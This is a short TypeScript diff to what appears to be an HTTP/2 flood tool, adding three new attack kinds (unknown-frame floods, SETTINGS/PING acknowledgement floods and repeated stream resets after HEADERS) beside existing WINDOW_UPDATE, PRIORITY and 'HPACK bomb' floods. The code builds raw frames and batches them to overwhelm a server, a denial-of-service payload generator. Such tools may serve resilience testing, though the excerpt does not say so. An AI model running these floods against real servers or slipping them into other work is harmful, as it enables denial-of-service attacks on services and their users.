@@ -19,8 +19,8 @@ const plainOpening = Buffer.concat([clientPreface, settings([])]);
 const batch = 64;
 const none = Buffer.alloc(0);
 
-function repeated(bytes: Buffer, opening: Buffer = plainOpening): Attack {
-  const piece: Piece = { bytes: Buffer.concat(Array.from({ length: batch }, () => bytes)), frames: batch };
+function repeated(bytes: Buffer, opening: Buffer = plainOpening, framesEach = 1): Attack {
+  const piece: Piece = { bytes: Buffer.concat(Array.from({ length: batch }, () => bytes)), frames: batch * framesEach };
   return { opening, next: () => piece };
 }
 
@@ -95,6 +95,12 @@ export function attackOf(kind: FloodKind, fields: readonly (readonly [string, st
       return repeated(frame(frameType.data, 0, 1, none), Buffer.concat([plainOpening, headers(1, head, flag.endHeaders)]));
     case 'WINDOW_UPDATE':
       return repeated(windowUpdate(0, 1));
+    case 'unknown frames':
+      return repeated(frame(0xfe, 0, 0, none));
+    case 'acknowledgements':
+      return repeated(Buffer.concat([frame(frameType.settings, flag.ack, 0, none), frame(frameType.ping, flag.ack, 0, Buffer.alloc(8))]), plainOpening, 2);
+    case 'repeated resets':
+      return repeated(frame(frameType.rstStream, 0, 1, uint32(errorCode.cancel)), Buffer.concat([plainOpening, headers(1, head, flag.endHeaders)]));
     case 'PRIORITY':
       return streams((id) => frame(frameType.priority, 0, id, Buffer.from([0, 0, 0, 0, 16])), 1);
     case 'HPACK bomb':
